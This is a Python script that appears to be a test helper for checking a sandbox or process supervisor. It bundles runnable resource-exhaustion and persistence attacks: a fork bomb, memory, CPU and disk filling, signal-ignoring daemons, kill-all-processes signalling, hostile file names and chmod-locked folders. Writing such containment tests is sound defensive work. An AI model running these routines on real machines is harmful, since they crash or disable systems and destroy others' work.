"""What a program does that wants to wear its machine out, to live on, or to be impossible to clear away."""

import os
import signal
import subprocess
import sys
import threading
import time

MARKER = "MARKER"
BLOCK = b"x" * 2**20


def forever(action):
    while True:
        action()


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def memory():
    kept = []
    forever(lambda: kept.append(bytearray(os.urandom(4096) * 2560)))


def memory_of_many():
    for _ in range(8):
        if os.fork() == 0:
            memory()
    time.sleep(60)


def threads():
    wait = threading.Event()
    forever(lambda: threading.Thread(target=wait.wait, daemon=True).start())


def processors():
    for _ in range(100):
        if os.fork() == 0:
            forever(lambda: None)
    time.sleep(60)


def flood(descriptor):
    forever(lambda: os.write(descriptor, BLOCK))


def flood_of_child():
    if os.fork() == 0:
        os.setsid()
        flood(1)


def deaf_sleeper():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    time.sleep(60)


def silent_sleeper():
    for descriptor in range(3):
        os.close(descriptor)
    time.sleep(60)


def daemon(keeps_streams):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            if not keeps_streams:
                os.closerange(0, 64)
            os.execvp("sleep", ["sleep", MARKER])
        os._exit(0)
    os.wait()
    time.sleep(0.1)


def signals(targets, number):
    for it in targets:
        try:
            os.kill(it, number)
        except OSError:
            pass


def stop_all():
    signals((-1, os.getppid(), 1, os.getpid()), signal.SIGSTOP)
    time.sleep(60)


def end_all():
    for number in range(1, 65):
        signals((-1, os.getppid(), 1), number)
    time.sleep(60)


def zombies():
    while True:
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            time.sleep(60)


def open_files():
    kept = []
    try:
        while True:
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        time.sleep(60)


def many_files():
    for number in range(10**7):
        with open(f"file-{number}", "wb"):
            pass


def deep_folders():
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)


def odd_names():
    for name in (b"\xff\xfe", b"a\nb", b"\x1b[2J", b" ", b"x" * 255, b"\xc3\x28", b"-rf", b"\\", "\u202e".encode()):
        os.mkdir(name)
        with open(os.path.join(name, name), "wb") as file:
            file.write(b"x")


def closed_folders():
    for number in range(3):
        os.makedirs(f"closed/{number}/in")
        open(f"closed/{number}/in/file", "w").close()
        os.chmod(f"closed/{number}/in/file", 0)
        os.chmod(f"closed/{number}/in", 0)
        os.chmod(f"closed/{number}", 0)
    os.chmod("closed", 0)
    os.chmod(".", 0o500)


def disk():
    for number in range(10**6):
        with open(f"big-{number}", "wb", buffering=0) as file:
            for _ in range(200):
                file.write(BLOCK)


def holes():
    for number in range(1000):
        with open(f"hole-{number}", "wb") as file:
            file.truncate(250 * 2**20)


ATTACKS = {
    "fork-bomb": fork_bomb,
    "memory": memory,
    "memory-of-many": memory_of_many,
    "threads": threads,
    "processors": processors,
    "output-flood": lambda: flood(1),
    "error-flood": lambda: flood(2),
    "flood-of-a-child": flood_of_child,
    "sleeper": lambda: time.sleep(60),
    "deaf-sleeper": deaf_sleeper,
    "silent-sleeper": silent_sleeper,
    "daemon": lambda: daemon(False),
    "daemon-with-streams": lambda: daemon(True),
    "stop-all": stop_all,
    "end-all": end_all,
    "zombies": zombies,
    "open-files": open_files,
    "many-files": many_files,
    "deep-folders": deep_folders,
    "odd-names": odd_names,
    "closed-folders": closed_folders,
    "disk": disk,
    "holes": holes,
}

if __name__ == "__main__":
    if sys.argv[1] == "calm":
        print("calm", sorted(it for it in os.listdir(".") if it != "main.py"))
    else:
        os.chdir(sys.argv[2])
        ATTACKS[sys.argv[1]]()
        print("done")
